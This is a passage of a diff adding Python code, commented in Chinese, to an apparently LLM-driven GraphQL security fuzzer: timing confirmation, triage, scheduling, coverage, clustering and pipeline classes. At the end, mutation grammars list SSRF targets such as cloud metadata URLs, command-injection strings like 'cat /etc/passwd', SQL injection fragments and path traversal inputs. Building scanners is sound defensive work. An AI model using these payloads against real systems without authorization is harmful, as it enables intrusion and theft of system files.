+    时间盲注 RCE 或 DoS 时，用不同延迟值重发该 Payload（不走响应缓存）：
+    - Payload 含 sleep / waitfor delay / ping -c 等延迟参数：分别注入 0、D/2、D 秒，
+      每个取值交替采样 samples 次取最小值，延迟随注入值线性增长（相关系数和斜率都够大）才确认
+    - 没有延迟参数（如 DoS）：重发 samples 次，每次都比基线慢出阈值才确认
+    确认过程互斥执行，同一时间只有一组计时探测；每个探测请求都走 request_gate 的计时通道。
+    """
+
+    MIN_CORRELATION = 0.9
+    MIN_SLOPE = 0.8  # 注入 1 秒延迟至少应多出 0.8 秒
+
+    def __init__(self, endpoint: str, timeout: int = 10, threshold: float = 4.0, samples: int = 2):
+        self.endpoint = endpoint
+        self.timeout = timeout
+        self.threshold = threshold
+        self.samples = max(0, samples)
+        self._lock = threading.Lock()
+        self.stats = {'suspected': 0, 'confirmed': 0, 'rejected': 0, 'requests': 0}
+
+    def _measure(self, payload: str, variables: dict, timeout: float) -> Optional[float]:
+        response_text, elapsed_time, status_code = execute_payload(self.endpoint, payload, timeout, variables,
+                                                                   use_cache=False, timing_sensitive=True)
+        self.stats['requests'] += 1
+        if response_text is None and elapsed_time < timeout:
+            return None  # 请求失败，不是变慢
+        return elapsed_time
+
+    @staticmethod
+    def _fit(points: list) -> tuple:
+        """最小二乘拟合 (延迟, 耗时)，返回 (相关系数, 斜率)"""
+        n = len(points)
+        mean_x = sum(x for x, _ in points) / n
+        mean_y = sum(y for _, y in points) / n
+        sxx = sum((x - mean_x) ** 2 for x, _ in points)
+        syy = sum((y - mean_y) ** 2 for _, y in points)
+        sxy = sum((x - mean_x) * (y - mean_y) for x, y in points)
+        if not sxx or not syy:
+            return 0.0, 0.0
+        return sxy / (sxx * syy) ** 0.5, sxy / sxx
+
+    def _confirm_delay(self, payload: str, variables: dict, delay: dict) -> dict:
+        full = max(2, int(round(delay['seconds'])))
+        delays = [0, max(1, full // 2), full]
+        timeout = self.timeout + full + 5
+        measured: Dict[int, list] = {d: [] for d in delays}
+        for _ in range(self.samples):
+            for seconds in delays:
+                probe_payload, probe_variables = rewrite_delay(payload, variables, delay, seconds)
+                elapsed_time = self._measure(probe_payload, probe_variables, timeout)
+                if elapsed_time is not None:
+                    measured[seconds].append(elapsed_time)
+        if any(not values for values in measured.values()):
+            return {'confirmed': False, 'details': '计时探测请求失败，无法确认'}
+
+        points = [(seconds, min(values)) for seconds, values in measured.items()]
+        correlation, slope = self._fit(points)
+        observed = ', '.join(f"{seconds}s→{elapsed:.2f}s" for seconds, elapsed in points)
+        confirmed = correlation >= self.MIN_CORRELATION and slope >= self.MIN_SLOPE
+        verdict = '延迟随注入时长线性增长' if confirmed else '延迟未随注入时长同步增长'
+        return {'confirmed': confirmed, 'points': points,
+                'details': f"{delay['name']} {verdict} ({observed}，相关系数 {correlation:.2f}，斜率 {slope:.2f})"}
+
+    def _confirm_repeat(self, payload: str, variables: dict, threshold: float, base_latency: float) -> dict:
+        timeout = self.timeout + threshold + 5
+        latencies = []
+        for _ in range(self.samples):
+            elapsed_time = self._measure(payload, variables, timeout)
+            if elapsed_time is None:
+                return {'confirmed': False, 'details': '计时探测请求失败，无法确认'}
+            latencies.append(elapsed_time)
+        confirmed = min(latencies) - base_latency > threshold
+        observed = ', '.join(f"{elapsed:.2f}s" for elapsed in latencies)
+        return {'confirmed': confirmed,
+                'details': f"重发 {len(latencies)} 次耗时 {observed}（基线 {base_latency:.2f}s）"
+                           + ('，稳定复现' if confirmed else '，未能复现')}
+
+    def confirm(self, result: dict, profile: dict = None, threshold: float = None) -> dict:
+        """
+        重发可疑 Payload 确认时间类漏洞
+
+        Args:
+            result: 测试结果（使用其中最终的 payload / variables）
+            profile: 该操作的基线（BaselineEngine 记录）
+            threshold: 无延迟参数时判定变慢的阈值（秒），默认使用 self.threshold
+
+        Returns:
+            dict: {'confirmed': bool, 'details': str}
+        """
+        threshold = self.threshold if threshold is None else threshold
+        if not self.samples:
+            return {'confirmed': True, 'details': '未启用重发确认'}
+        payload, variables = result['payload'], result.get('variables')
+        base_latency = BaselineEngine.median_latency(profile)
+        delay = find_delay_parameter(payload, variables)
+        if delay and delay['seconds'] > 0:
+            full = max(2, int(round(delay['seconds'])))
+            probes, seconds = 3 * self.samples, self.samples * (1.5 * full + 3 * base_latency)
+        else:
+            probes, seconds = self.samples, self.samples * (threshold + base_latency)
+        if not scan_budget.allow('verification', probes, seconds):
+            return {'confirmed': True, 'details': '扫描预算不足，未重发确认（保留阈值判断结果）'}
+
+        previous_phase = scan_budget.phase
+        scan_budget.phase = 'verification'
+        try:
+            with self._lock:
+                self.stats['suspected'] += 1
+                try:
+                    if delay and delay['seconds'] > 0:
+                        check = self._confirm_delay(payload, variables, delay)
+                    else:
+                        check = self._confirm_repeat(payload, variables, threshold, base_latency)
+                except BudgetExhausted:
+                    return {'confirmed': True, 'details': '请求预算已用尽，未完成重发确认（保留阈值判断结果）'}
+                self.stats['confirmed' if check['confirmed'] else 'rejected'] += 1
+        finally:
+            scan_budget.phase = previous_phase
+        return check
+
+    def summary(self) -> dict:
+        return dict(self.stats, threshold=self.threshold, samples=self.samples)
+
+
+# =============================================================================
+# 结果分诊
+# =============================================================================
+
+class TriageGate:
+    """
+    LLM 分析前的规则分诊
+
+    把每个响应分为三类：
+    - positive: 规则验证器已确认漏洞
+    - negative: 请求失败、GraphQL 校验错误、鉴权拦截等确定无漏洞的结果，
+      或与之前已分析过的响应（规范化后）相同
+    - ambiguous: 其余结果，交给 LLM 分析
+    确定的结论直接生成分析文本，不再调用 LLM。
+    """
+
+    # Payload 在校验阶段就被拒绝，未触达解析器（resolver）
+    VALIDATION_ERRORS = {
+        'SUBSELECTION_REQUIRED': '缺少子字段选择',
+        'UNKNOWN_FIELD': '字段不存在',
+        'INVALID_ARGUMENT': '参数名错误或缺少必需参数',
+        'TYPE_MISMATCH': '参数类型不匹配',
+        'SYNTAX_ERROR': '语法错误',
+        'DEPTH_LIMIT': '超过查询深度限制',
+        'AUTH_ERROR': '被鉴权拦截',
+    }
+
+    def __init__(self):
+        self._analyzed: dict = {}  # (漏洞类型, 响应签名) -> 之前的分析结论
+        self.stats = {'positive': 0, 'negative': 0, 'similar': 0, 'ambiguous': 0}
+        self._lock = threading.Lock()
+
+    def _count(self, category: str):
+        with self._lock:
+            self.stats[category] += 1
+
+    @staticmethod
+    def response_signature(vuln_type: str, status_code: Optional[int], response_text: str) -> tuple:
+        """响应签名：数字归一化后的响应内容摘要（忽略 ID、计时等易变部分）"""
+        normalized = re.sub(r'\d+', '0', (response_text or '')[:2000])
+        digest = hashlib.sha1(normalized.encode('utf-8', errors='replace')).hexdigest()
+        return (payload_risk_class(vuln_type), status_code, digest)
+
+    def classify(self, result: dict, response_text: str) -> tuple:
+        """
+        分诊单个结果
+
+        Returns:
+            tuple: (类别, 分析文本)；类别为 ambiguous 时分析文本为 None
+        """
+        if result.get('vulnerable'):
+            self._count('positive')
+            return 'positive', f"规则验证已确认: {result.get('details') or result['type']}"
+
+        status_code = result.get('status_code')
+        if not status_code:
+            self._count('negative')
+            return 'negative', "请求失败，可能是网络问题或 Payload 格式错误"
+
+        error_info = analyze_graphql_error(response_text)
+        reason = self.VALIDATION_ERRORS.get(error_info['error_type'])
+        if reason:
+            self._count('negative')
+            suggestion = error_info['suggestions'][0] if error_info['suggestions'] else '调整 Payload 结构'
+            return 'negative', f"Payload 未通过 GraphQL 校验（{reason}）: {error_info['error_message'][:150]}；建议{suggestion}"
+
+        if 400 <= status_code < 500 and not error_info['has_error']:
+            self._count('negative')
+            return 'negative', basic_response_analysis(status_code, response_text, result.get('response_time', 0))
+
+        previous = self._analyzed.get(self.response_signature(result['type'], status_code, response_text))
+        if previous:
+            self._count('similar')
+            return 'negative', f"与已分析的响应相同: {previous}"
+
+        self._count('ambiguous')
+        return 'ambiguous', None
+
+    def remember(self, result: dict, response_text: str, analysis: str):
+        """记录 LLM 对某个响应的结论，之后相同的响应直接复用"""
+        if not result.get('llm_verdict'):
+            key = self.response_signature(result['type'], result.get('status_code'), response_text)
+            self._analyzed.setdefault(key, analysis)
+
+    def summary(self) -> dict:
+        total = sum(self.stats.values())
+        summary = dict(self.stats)
+        summary['llm_saved'] = round(1 - self.stats['ambiguous'] / total, 4) if total else 0.0
+        return summary
+
+
+# =============================================================================
+# 风险优先级调度
+# =============================================================================
+
+# 各风险类型的价值权重（高价值 sink 优先）
+RISK_WEIGHTS = {
+    'rce': 10, 'ssrf': 9, 'sqli': 7, 'path_traversal': 7, 'authz_bypass': 6,
+    'idor': 5, 'info_leak': 5, 'xss': 4, 'dos': 2
+}
+
+# 参数类型系数：自由文本类标量最容易成为注入点
+ARG_TYPE_FACTORS = {
+    'String': 1.5, 'ID': 1.2, 'JSON': 1.5, 'JSONString': 1.5, 'Upload': 1.5, 'URL': 1.5,
+    'Int': 0.6, 'Float': 0.6, 'Boolean': 0.3
+}
+
+# Payload 类型标签 -> 风险类型
+VULN_TAG_RISKS = {
+    'RCE': 'rce', 'CMD': 'rce', 'SSRF': 'ssrf', 'SQL': 'sqli', 'XSS': 'xss', 'AUTHZ': 'authz_bypass',
+    'IDOR': 'idor', 'INFO': 'info_leak', 'LEAK': 'info_leak', 'DOS': 'dos', 'PATH': 'path_traversal',
+    'TRAVERSAL': 'path_traversal'
+}
+
+
+def payload_risk_class(vuln_type: str) -> str:
+    """把 Payload 类型标签（如 [SQLi]、[INFO_LEAK]）映射到风险类型"""
+    tag = (vuln_type or '').upper()
+    for marker, risk in VULN_TAG_RISKS.items():
+        if marker in tag:
+            return risk
+    return 'unknown'
+
+
+def score_argument(arg: dict) -> float:
+    """按 analyze_param_risk 的结果和参数类型给单个参数打分"""
+    base_type = (arg.get('type') or '').strip('[]!')
+    factor = ARG_TYPE_FACTORS.get(base_type, 1.0)
+    risk_score = max((RISK_WEIGHTS.get(r, 1) for r in arg.get('risks', [])), default=0.5)
+    return risk_score * factor
+
+
+class PriorityScheduler:
+    """
+    风险加权的优先级调度器
+
+    静态分数来自参数风险与类型，动态部分来自历史发现（加分）和已测试次数（衰减），
+    同时决定每轮 LLM 提示词包含哪些操作，以及 Payload 的执行顺序。
+    """
+
+    FINDING_BONUS = 5.0
+    TESTED_DECAY = 0.3
+
+    def __init__(self, mutations: list, queries: list = None):
+        self.operations: Dict[str, dict] = {}
+        for kind, ops in (('mutation', mutations or []), ('query', queries or [])):
+            for op in ops:
+                static = sum(score_argument(a) for a in op.get('args', []))
+                if kind == 'mutation':
+                    static += 1.0  # mutation 通常有副作用，更可能触达后端 sink
+                self.operations[op['name']] = {'op': op, 'kind': kind, 'static': static}
+        self.findings: Dict[str, int] = {}
+        self.tested: Dict[str, int] = {}
+        self._lock = threading.Lock()
+
+    def score(self, name: str) -> float:
+        info = self.operations.get(name)
+        if not info:
+            return 0.0
+        dynamic = self.FINDING_BONUS * self.findings.get(name, 0) - self.TESTED_DECAY * self.tested.get(name, 0)
+        return max(info['static'] + dynamic, 0.1)
+
+    def ranked_operations(self, names: list = None) -> list:
+        """按分数从高到低返回操作名（names 不为空时只在其中排序）"""
+        return sorted(self.operations if names is None else [n for n in names if n in self.operations],
+                      key=lambda n: self.score(n), reverse=True)
+
+    def select_operations(self, limit: int = 0, names: list = None) -> tuple:
+        """
+        选出本轮提示词使用的操作（按优先级排序，names 限定候选操作）
+
+        Returns:
+            tuple: (mutations, queries)
+        """
+        names = self.ranked_operations(names)
+        if limit and limit > 0:
+            names = names[:limit]
+        mutations = [self.operations[n]['op'] for n in names if self.operations[n]['kind'] == 'mutation']
+        queries = [self.operations[n]['op'] for n in names if self.operations[n]['kind'] == 'query']
+        return mutations, queries
+
+    def payload_priority(self, payload_info: dict) -> float:
+        """Payload 优先级 = 漏洞类型权重 + 目标操作的最高分数"""
+        risk = payload_risk_class(payload_info.get('type', ''))
+        targets = [f['name'] for f in extract_operation_fields(payload_info.get('payload', ''))]
+        op_score = max((self.score(t) for t in targets), default=0.0)
+        return RISK_WEIGHTS.get(risk, 1) + op_score
+
+    def order_payloads(self, payloads: list) -> list:
+        """按优先级排序 Payload（同分保持 LLM 输出顺序）"""
+        return sorted(payloads, key=self.payload_priority, reverse=True)
+
+    def record_result(self, result: dict):
+        """根据测试结果更新目标操作的测试次数和发现数"""
+        for field in extract_operation_fields(result.get('payload', '')):
+            name = field['name']
+            if name not in self.operations:
+                continue
+            with self._lock:
+                self.tested[name] = self.tested.get(name, 0) + 1
+                if result.get('vulnerable'):
+                    self.findings[name] = self.findings.get(name, 0) + 1
+
+
+# =============================================================================
+# 测试覆盖率跟踪
+# =============================================================================
+
+class CoverageTracker:
+    """
+    记录已实际测试过的 操作 / 参数 / 漏洞类型
+
+    目标集合来自 Schema：每个操作的参数，以及参数风险（analyze_param_risk）
+    对应的漏洞类型；没有风险标记的操作以 'generic' 作为目标类型。
+    """
+
+    def __init__(self, mutations: list, queries: list = None):
+        self.targets: Dict[str, dict] = {}
+        for kind, ops in (('mutation', mutations or []), ('query', queries or [])):
+            for op in ops:
+                risks = set(op.get('risks', [])) or {'generic'}
+                self.targets[op['name']] = {
+                    'kind': kind,
+                    'args': {a['name'] for a in op.get('args', [])},
+                    'risks': risks,
+                    'arg_risks': {a['name']: a.get('risks', []) for a in op.get('args', [])}
+                }
+        self.exercised: Dict[str, dict] = {}  # 操作名 -> {'args': set, 'risks': set, 'count': int}
+        self._lock = threading.Lock()
+
+    def record(self, result: dict):
+        """根据一次测试结果（需已收到响应）更新覆盖信息"""
+        if result.get('status_code') is None:
+            return
+        risk = payload_risk_class(result.get('type', ''))
+        for field in extract_operation_fields(result.get('payload', '')):
+            target = self.targets.get(field['name'])
+            if not target:
+                continue
+            with self._lock:
+                entry = self.exercised.setdefault(field['name'], {'args': set(), 'risks': set(), 'count': 0})
+                entry['count'] += 1
+                entry['args'].update(a for a in field['args'] if a in target['args'])
+                entry['risks'].add(risk if risk in target['risks'] else 'generic')
+
+    def summary(self) -> dict:
+        """覆盖率统计（用于报告）"""
+        with self._lock:
+            return self._summary()
+
+    def _summary(self) -> dict:
+        total_ops = len(self.targets)
+        total_args = sum(len(t['args']) for t in self.targets.values())
+        total_risks = sum(len(t['risks']) for t in self.targets.values())
+        covered_args = sum(len(e['args']) for e in self.exercised.values())
+        covered_risks = sum(len(e['risks'] & self.targets[n]['risks']) for n, e in self.exercised.items())
+
+        def pct(part, whole):
+            return round(100.0 * part / whole, 1) if whole else 100.0
+
+        return {
+            'operations': {'covered': len(self.exercised), 'total': total_ops,
+                           'percent': pct(len(self.exercised), total_ops)},
+            'arguments': {'covered': covered_args, 'total': total_args, 'percent': pct(covered_args, total_args)},
+            'risk_classes': {'covered': covered_risks, 'total': total_risks,
+                             'percent': pct(covered_risks, total_risks)},
+            'uncovered_operations': [n for n in self.targets if n not in self.exercised]
+        }
+
+    def uncovered_targets(self, ranking: list = None, limit: int = 15) -> list:
+        """
+        未覆盖的测试目标（按 ranking 给出的操作顺序）
+
+        Returns:
+            list: [(操作名, 未覆盖参数列表, 未覆盖漏洞类型列表), ...]
+        """
+        names = ranking or list(self.targets)
+        targets = []
+        for name in names:
+            target = self.targets.get(name)
+            if not target:
+                continue
+            with self._lock:
+                entry = self.exercised.get(name, {'args': set(), 'risks': set()})
+                missing_args = sorted(target['args'] - entry['args'])
+                missing_risks = sorted(target['risks'] - entry['risks'])
+            if missing_args or missing_risks:
+                targets.append((name, missing_args, missing_risks))
+            if len(targets) >= limit:
+                break
+        return targets
+
+    def format_for_prompt(self, ranking: list = None, limit: int = 15) -> str:
+        """生成提示词中的未覆盖目标列表"""
+        lines = []
+        for name, missing_args, missing_risks in self.uncovered_targets(ranking, limit):
+            kind = self.targets[name]['kind']
+            args_str = f" 参数: {', '.join(missing_args)}" if missing_args else ""
+            risks_str = f" 类型: {', '.join(missing_risks)}" if missing_risks else ""
+            lines.append(f"- {kind} {name}{args_str}{risks_str}")
+        return "\n".join(lines)
+
+
+# =============================================================================
+# 响应新颖度
+# =============================================================================
+
+def response_shape(response_text: str) -> str:
+    """JSON 响应的结构摘要（键名和值类型，数组只看第一个元素）；非 JSON 响应返回 text / empty"""
+    try:
+        data = json.loads(response_text)
+    except (ValueError, TypeError):
+        return 'text' if response_text else 'empty'
+
+    def shape(value, depth: int = 0) -> str:
+        if depth > 8:
+            return '...'
+        if isinstance(value, dict):
+            return '{' + ','.join(f"{k}:{shape(v, depth + 1)}" for k, v in sorted(value.items())) + '}'
+        if isinstance(value, list):
+            return '[' + (shape(value[0], depth + 1) if value else '') + ']'
+        return type(value).__name__
+
+    return shape(data)
+
+
+class NoveltyTracker:
+    """
+    响应新颖度：衡量每轮测试是否还在产生新的行为
+
+    新行为包括：新的错误类型 / 错误消息、操作上新的状态码、新的响应结构，
+    以及相对该操作历史延迟的异常耗时。一轮的新颖度 = 产生新行为的结果数 / 测试结果数。
+    会话据此自适应调整轮数：新颖度为 0 时提前结束，把剩余轮次放回共享池；
+    达到轮数上限时新颖度仍不低于 threshold，则从共享池中领取追加轮次。
+    """
+
+    FEATURE_LABELS = {
+        'error_class': '错误类型',
+        'status_code': '状态码',
+        'response_shape': '响应结构',
+        'timing_outlier': '异常耗时',
+    }
+    TIMING_MIN_SAMPLES = 5
+    TIMING_FACTOR = 3.0
+    TIMING_MIN_DELTA = 1.0
+
+    def __init__(self, extra_rounds: int = 0, threshold: float = 0.2):
+        self.extra_rounds = max(0, extra_rounds)  # 共享的追加轮次池
+        self.threshold = threshold
+        self.seen: set = set()
+        self.counts = {key: 0 for key in self.FEATURE_LABELS}
+        self.granted = 0
+        self.released = 0
+        self._timings: Dict[str, list] = {}
+        self._lock = threading.Lock()
+
+    def _timing_outlier(self, operation: str, elapsed: float) -> bool:
+        samples = self._timings.setdefault(operation, [])
+        outlier = False
+        if len(samples) >= self.TIMING_MIN_SAMPLES:
+            median = sorted(samples)[len(samples) // 2]
+            outlier = elapsed > median * self.TIMING_FACTOR and elapsed - median > self.TIMING_MIN_DELTA
+        samples.append(elapsed)
+        return outlier
+
+    def observe(self, result: dict, response_text: str) -> list:
+        """
+        记录一个测试结果
+
+        Returns:
+            list: 其中首次出现的行为类别（空列表表示没有新行为）
+        """
+        fields = extract_operation_fields(result.get('payload', ''))
+        operation = fields[0]['name'] if fields else '-'
+        features = [
+            ('status_code', operation, result.get('status_code')),
+            ('response_shape', operation, response_shape(response_text)),
+        ]
+        error_info = analyze_graphql_error(response_text)
+        if error_info['has_error']:
+            signature = _error_signature(response_text) or error_info['error_message'][:120]
+            features.append(('error_class', error_info['error_type'], signature))
+
+        new = []
+        with self._lock:
+            if self._timing_outlier(operation, result.get('response_time') or 0):
+                features.append(('timing_outlier', operation, payload_risk_class(result.get('type', ''))))
+            for feature in features:
+                if feature not in self.seen:
+                    self.seen.add(feature)
+                    self.counts[feature[0]] += 1
+                    new.append(feature[0])
+        return new
+
+    def take_extra_round(self) -> bool:
+        """从共享池中领取一个追加轮次"""
+        with self._lock:
+            if self.extra_rounds <= 0:
+                return False
+            self.extra_rounds -= 1
+            self.granted += 1
+            return True
+
+    def release_rounds(self, rounds: int):
+        """会话提前结束，把未用的轮次放回共享池"""
+        if rounds > 0:
+            with self._lock:
+                self.extra_rounds += rounds
+                self.released += rounds
+
+    def summary(self) -> dict:
+        summary = {self.FEATURE_LABELS[key]: count for key, count in self.counts.items()}
+        summary['追加轮次'] = self.granted
+        summary['提前结束节省轮次'] = self.released
+        return summary
+
+
+# =============================================================================
+# 响应聚类
+# =============================================================================
+
+def normalize_error_message(message: str) -> str:
+    """归一化错误消息：去掉引号中的回显内容和数字，只保留消息模板"""
+    message = re.sub(r'"(?:[^"\\]|\\.)*"|\'[^\']*\'', 'S', message or '')
+    return re.sub(r'\d+', 'N', message).lower()[:200]
+
+
+def response_features(status_code: Optional[int], response_text: str) -> dict:
+    """
+    提取结构化相似度特征（特征 -> 权重）
+
+    JSON 响应取 键路径:值类型 和归一化后的错误消息，忽略字符串值本身
+    （回显的输入不同不影响结果）；非 JSON 响应取归一化文本的三词片段。
+    """
+    features = {f"status:{status_code}": 3}
+    try:
+        data = json.loads(response_text)
+    except (ValueError, TypeError):
+        words = re.sub(r'\d+', 'N', (response_text or '')[:4000]).lower().split()
+        for i in range(max(1, len(words) - 2)):
+            shingle = ' '.join(words[i:i + 3])
+            features[f"text:{shingle}"] = 1
+        return features
+
+    def walk(value, path: str, depth: int = 0):
+        if depth > 8:
+            return
+        if isinstance(value, dict):
+            for key, item in value.items():
+                walk(item, f"{path}.{key}", depth + 1)
+        elif isinstance(value, list):
+            features[f"{path}[]"] = 1
+            for item in value[:3]:
+                walk(item, f"{path}[]", depth + 1)
+        else:
+            features[f"{path}:{type(value).__name__}"] = 1
+
+    walk(data, '$')
+    errors = data.get('errors') if isinstance(data, dict) else None
+    for error in errors if isinstance(errors, list) else []:
+        if isinstance(error, dict):
+            message = normalize_error_message(str(error.get('message', '')))
+            features[f"error:{message}"] = 4
+            for word in message.split():
+                features[f"error_word:{word}"] = 1
+    return features
+
+
+def simhash(features: dict, bits: int = 64) -> int:
+    """加权 SimHash：相似的特征集合得到汉明距离小的指纹"""
+    vector = [0] * bits
+    for feature, weight in features.items():
+        digest = int.from_bytes(hashlib.md5(feature.encode('utf-8', errors='replace')).digest()[:bits // 8], 'big')
+        for i in range(bits):
+            vector[i] += weight if digest >> i & 1 else -weight
+    return sum(1 << i for i in range(bits) if vector[i] > 0)
+
+
+class ResponseClusterer:
+    """
+    响应在线聚类
+
+    按 (漏洞类型, 目标操作, 状态码) 分桶，桶内与各簇代表的 SimHash 汉明距离
+    不超过 max_distance 时归入该簇，否则新建一簇。只有每簇的代表交给 LLM 分析
+    并反馈到提示词，其余成员复用代表的结论；报告中给出各簇大小。
+    """
+
+    def __init__(self, max_distance: int = 3):
+        self.max_distance = max_distance
+        self.clusters: list = []
+        self._buckets: Dict[tuple, list] = {}
+        self.skipped_analysis = 0
+        self._lock = threading.Lock()
+
+    def assign(self, result: dict, response_text: str) -> tuple:
+        """
+        把结果归入一个簇（在结果中记录簇编号，代表结果中记录簇大小）
+
+        Returns:
+            tuple: (簇, 是否新建的簇)
+        """
+        fields = extract_operation_fields(result.get('payload', ''))
+        key = (payload_risk_class(result.get('type', '')), fields[0]['name'] if fields else '-',
+               result.get('status_code'))
+        fingerprint = simhash(response_features(result.get('status_code'), response_text))
+
+        with self._lock:
+            bucket = self._buckets.setdefault(key, [])
+            for cluster in bucket:
+                if bin(cluster['hash'] ^ fingerprint).count('1') <= self.max_distance:
+                    cluster['size'] += 1
+                    if cluster['representative'].get('source') == 'mutation' and result.get('source') != 'mutation':
+                        # 变异 Fuzzing 的结果不经 AI 分析，由第一个会话结果接任簇代表
+                        cluster['representative'].pop('cluster_size', None)
+                        cluster['representative'] = result
+                    cluster['representative']['cluster_size'] = cluster['size']
+                    result['cluster'] = cluster['id']
+                    return cluster, False
+            cluster = {'id': len(self.clusters) + 1, 'key': key, 'hash': fingerprint, 'size': 1,
+                       'representative': result}
+            self.clusters.append(cluster)
+            bucket.append(cluster)
+        result['cluster'] = cluster['id']
+        return cluster, True
+
+    def is_representative(self, result: dict) -> bool:
+        cluster_id = result.get('cluster')
+        return cluster_id is None or self.clusters[cluster_id - 1]['representative'] is result
+
+    def representative_analysis(self, result: dict) -> str:
+        """簇成员的分析文本：复用代表的结论"""
+        cluster = self.clusters[result['cluster'] - 1]
+        analysis = cluster['representative'].get('analysis') or '代表响应尚未分析'
+        return f"与响应簇 #{cluster['id']} 的代表相似: {analysis}"
+
+    def record_skipped(self, count: int):
+        with self._lock:
+            self.skipped_analysis += count
+
+    def resolve_members(self, results: list):
+        """
+        生成报告前，用各簇代表的最终结论（分析文本和 LLM 判定）更新簇成员
+
+        代表可能属于另一个会话，成员所在轮次汇总时代表还没有分析完。
+        """
+        for result in results:
+            if not result.get('cluster_member') or not result.get('cluster'):
+                continue
+            representative = self.clusters[result['cluster'] - 1]['representative']
+            if representative is result:
+                continue
+            result['analysis'] = self.representative_analysis(result)
+            if 'llm_verdict' in representative:
+                result['llm_verdict'] = representative['llm_verdict']
+
+    def summary(self, top: int = 10) -> dict:
+        with self._lock:
+            clusters = sorted(self.clusters, key=lambda c: c['size'], reverse=True)
+            summary = {
+                '响应数': sum(c['size'] for c in clusters),
+                '簇数': len(clusters),
+                '跳过分析': self.skipped_analysis,
+            }
+            largest = [f"#{c['id']} {c['key'][1]} [{c['key'][0]}] HTTP {c['key'][2]} ×{c['size']}"
+                       for c in clusters[:top] if c['size'] > 1]
+        if largest:
+            summary['最大的簇'] = '; '.join(largest)
+        return summary
+
+
+# =============================================================================
+# 流水线执行
+# =============================================================================
+
+class FuzzPipeline:
+    """
+    流水线式 Payload 测试
+
+    执行、验证、分析三个阶段通过有界队列连接，各阶段独立并发：
+    - 执行阶段: execute_workers 个线程从优先级队列取任务（目标请求、错误修复）
+    - 验证阶段: 单线程运行规则验证器
+    - 分析阶段: 经 analysis_filter 筛选后攒成批次，最多 analyze_workers 个批次同时分析
+    下游处理不过来时上游在队列上阻塞（背压），总耗时趋近最慢的阶段而不是各阶段之和。
+    结果按任务提交顺序返回，保证报告稳定。
+    """
+
+    _STOP = object()
+
+    def __init__(self, execute, verify, analyze, analysis_filter=None, execute_workers: int = 4,
+                 analyze_workers: int = 2, batch_size: int = ANALYSIS_BATCH_SIZE, queue_size: int = 16):
+        self.execute = execute            # item -> record（返回 None 表示丢弃）
+        self.verify = verify              # record -> None（原地更新）
+        self.analyze = analyze            # [record, ...] -> None（原地更新）
+        self.analysis_filter = analysis_filter  # record -> bool，是否需要分析
+        self.execute_workers = max(1, execute_workers)
+        self.analyze_workers = max(1, analyze_workers)
+        self.batch_size = max(1, batch_size)
+        self.queue_size = max(1, queue_size)
+
+    @staticmethod
+    def _start(target, *args) -> threading.Thread:
+        thread = threading.Thread(target=target, args=args, daemon=True)
+        thread.start()
+        return thread
+
+    def _execute_stage(self, execute_queue, verify_queue):
+        while True:
+            _, seq, item = execute_queue.get()
+            if item is self._STOP:
+                return
+            try:
+                record = self.execute(item)
+            except Exception as e:
+                log_error(f"执行阶段异常: {e}")
+                continue
+            if record is not None:
+                verify_queue.put((seq, record))
+
+    def _verify_stage(self, verify_queue, analyze_queue, outputs: dict):
+        while True:
+            seq, record = verify_queue.get()
+            if record is self._STOP:
+                analyze_queue.put(self._STOP)
+                return
+            try:
+                self.verify(record)
+            except Exception as e:
+                log_error(f"验证阶段异常: {e}")
+            outputs[seq] = record
+            analyze_queue.put(record)
+
+    def _analyze_stage(self, analyze_queue):
+        slots = threading.BoundedSemaphore(self.analyze_workers)
+        workers = []
+
+        def run_batch(batch):
+            try:
+                self.analyze(batch)
+            except Exception as e:
+                log_error(f"分析阶段异常: {e}")
+            finally:
+                slots.release()
+
+        batch = []
+        while True:
+            record = analyze_queue.get()
+            stop = record is self._STOP
+            if not stop and (self.analysis_filter is None or self.analysis_filter(record)):
+                batch.append(record)
+            if batch and (stop or len(batch) >= self.batch_size):
+                slots.acquire()
+                workers.append(self._start(run_batch, batch))
+                batch = []
+            if stop:
+                break
+        for worker in workers:
+            worker.join()
+
+    def run(self, items) -> list:
+        """
+        执行流水线
+
+        Args:
+            items: 可迭代的 (优先级, 任务)，数值越小越先执行（只在已排队的任务间生效）
+
+        Returns:
+            list: 按提交顺序排列的 record
+        """
+        execute_queue = queue.PriorityQueue(maxsize=self.queue_size)
+        verify_queue = queue.Queue(maxsize=self.queue_size)
+        analyze_queue = queue.Queue(maxsize=self.queue_size)
+        outputs = {}
+
+        executors = [self._start(self._execute_stage, execute_queue, verify_queue)
+                     for _ in range(self.execute_workers)]
+        verifier = self._start(self._verify_stage, verify_queue, analyze_queue, outputs)
+        analyzer = self._start(self._analyze_stage, analyze_queue)
+
+        seq = 0
+        for priority, item in items:
+            execute_queue.put((priority, seq, item))
+            seq += 1
+        for i in range(self.execute_workers):
+            execute_queue.put((float('inf'), seq + i, self._STOP))
+
+        for executor in executors:
+            executor.join()
+        verify_queue.put((None, self._STOP))
+        verifier.join()
+        analyzer.join()
+
+        return [outputs[key] for key in sorted(outputs)]
+
+
+# =============================================================================
+# 变异 Fuzzing
+# =============================================================================
+
+# 变异语法：每个语法由若干槽位组成，各槽位随机取一项后拼接；
+# {oast} 替换为 OAST 域名，{marker} 替换为随机编号；回显标记写成 MCP_''RCE_ 的形式，
+# 只有命令真正执行后输出中才会出现 verify_rce 识别的 mcp_rce_ 前缀，输入被原样反射时不会误报
+MUTATION_GRAMMARS = {
+    'url': [
+        ['http://', 'https://', 'gopher://', 'dict://', 'file://', '//'],
+        ['127.0.0.1', 'localhost', '169.254.169.254', '[::1]', '0x7f000001', '2130706433', '{oast}'],
+        ['', ':22', ':6379', ':8080'],
+        ['/', '/latest/meta-data/', '/admin', '/etc/passwd', '/%2e%2e/'],
+    ],
+    'shell': [
+        [';', '|', '||', '&&', '\n', '`', '$('],
+        ["echo MCP_''RCE_{marker}", 'id', 'whoami', 'uname -a', 'cat /etc/passwd', 'type C:\\windows\\win.ini'],
+        ['', '`', ')', ' #', ';'],
+    ],
+    'sql': [
+        ["'", '"', "')", "1'", '1', "\\'"],
+        [" OR '1'='1", ' OR 1=1', ' UNION SELECT NULL', " AND 1=CONVERT(int,@@version)",
+         " AND extractvalue(1,concat(0x7e,version()))", ';SELECT version()'],
+        ['--', '-- -', '#', '/*', ''],
+    ],
+    'path': [
+        ['', '/', 'file:'],
+        ['../' * 3, '../' * 8, '..%2f' * 8, '....//' * 8, '..\\' * 8, '%2e%2e%2f' * 8, '..%c0%af' * 8],
+        ['etc/passwd', 'windows/win.ini', 'proc/self/environ', 'etc/passwd%00.png'],
+    ],
+    'unicode': [
+        ['', 'test'],
